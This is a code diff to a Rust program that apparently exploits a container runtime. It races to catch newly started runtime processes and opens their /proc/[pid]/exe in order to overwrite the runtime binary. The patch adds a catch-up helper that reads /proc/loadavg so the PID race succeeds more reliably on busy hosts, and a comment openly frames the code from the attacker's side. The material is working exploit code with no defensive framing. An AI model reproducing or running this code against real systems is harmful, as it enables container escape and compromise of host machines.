@@ -75,7 +75,7 @@ fn watch(meet: &mut dyn FnMut(i32)) -> ! {
     loop {
         // Numbers are given out one after the other: looking at the next ones is faster than
         // reading the directory.
-        for pid in last + 1..last + 8 {
+        for pid in last + 1..last + WINDOW {
             if is_runtime(pid) {
                 meet(pid);
                 last = pid;
@@ -83,7 +83,21 @@ fn watch(meet: &mut dyn FnMut(i32)) -> ! {
                 last = pid;
             }
         }
+        last = caught_up(last);
     }
+}
+
+/// How many numbers after the last one that was met are looked at.
+const WINDOW: i32 = 8;
+
+/// Where to go on after `last`: on a busy machine more processes can have come and gone between two
+/// looks than the window is wide, and an attacker that stayed behind would never meet one again.
+/// The last field of `/proc/loadavg` is the number given out last in this PID namespace
+/// (proc_loadavg(5)).
+fn caught_up(last: i32) -> i32 {
+    let newest = std::fs::read_to_string("/proc/loadavg").unwrap();
+    let newest: i32 = newest.split_whitespace().last().unwrap().parse().unwrap();
+    if newest >= last + WINDOW { newest - 1 } else { last }
 }
 
 fn is_runtime(pid: i32) -> bool {
@@ -172,7 +186,8 @@ fn overwrite() -> ! {
     let mut held = Vec::new();
     let mut last = rustix::process::getpid().as_raw_nonzero().get();
     loop {
-        for pid in last + 1..last + 8 {
+        last = caught_up(last);
+        for pid in last + 1..last + WINDOW {
             let exe = format!("/proc/{pid}/exe");
             let Ok(file) = rustix::fs::open(&exe, OFlags::PATH | OFlags::CLOEXEC, Mode::empty())
             else {
